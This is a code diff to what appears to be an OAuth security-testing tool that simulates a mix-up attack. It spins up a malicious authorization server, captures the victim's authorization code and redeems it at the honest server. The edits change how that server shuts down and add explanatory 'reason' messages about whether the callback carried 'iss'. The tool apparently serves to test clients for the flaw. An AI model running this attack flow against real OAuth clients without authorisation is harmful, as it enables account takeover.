@@ -141,8 +141,13 @@ def mix_up(target: TargetLike, malicious: MaliciousServer | None = None) -> Atta
     t = as_target(target)
     if malicious is not None:
         return _mix_up(t, malicious)
-    with MaliciousServer() as evil:
+    evil = MaliciousServer().__enter__()
+    try:
         return _mix_up(t, evil)
+    finally:
+        # stopping waits for uvicorn's next tick (about 0.2 s, half the checklist's time):
+        # nothing waits for this server, so it stops on its own thread
+        threading.Thread(target=evil.stop, name=f"stop {evil.url}", daemon=True).start()
 
 
 def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
@@ -181,7 +186,7 @@ def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
                 "server with the attacker's request and her state"
             )
             page = sign_in(victim_session.browser, victim_request.url, target.victim)
-            code = code_from(page)
+            code = code_from(page, attacker_request.url)
             iss = params_of(page.location).get("iss")
             steps.append(
                 f"she signs in at the honest server and approves; the callback carries code "
@@ -197,6 +202,9 @@ def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
                     f"session talked to the attacker's. {exc}",
                     steps,
                     {"iss in the response": iss, "server the session chose": evil.url},
+                    reason=f"The callback carried iss={iss}, while the victim's session had "
+                    f"chosen the attacker's server {evil.url}: the client dropped it before "
+                    "its code went anywhere.",
                 )
             # the attacker's token endpoint answers an error: the code is gone anyway
             with contextlib.suppress(OAuthResponseError):
@@ -210,6 +218,8 @@ def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
                 False,
                 "The client did not send the code to the attacker's server.",
                 steps,
+                reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}, and the "
+                f"client sent no code to the attacker's token endpoint at {evil.url}.",
             )
         forged = forged_callback(
             attacker_request.redirect_uri or target.redirect_uri,
@@ -225,6 +235,9 @@ def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
                 f"The code reached the attacker, but the honest server refused it: {outcome}",
                 steps,
                 {"captured code": captured},
+                reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}; the code "
+                f"reached the attacker's server, but the honest one refused it in her "
+                f"session: {outcome.error}.",
             )
     owner = whose(target, honest_app, outcome)
     steps.append(
@@ -238,6 +251,9 @@ def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
         "which server answered.",
         steps,
         {"captured code": captured, "iss in the response": iss or "(none)", "account": owner},
+        reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}, so the client "
+        f"could not tell the servers apart: it sent code {captured} to {evil.url}, and the "
+        f"attacker's session redeemed it at the honest server (the account it opens: {owner}).",
     )
 
 
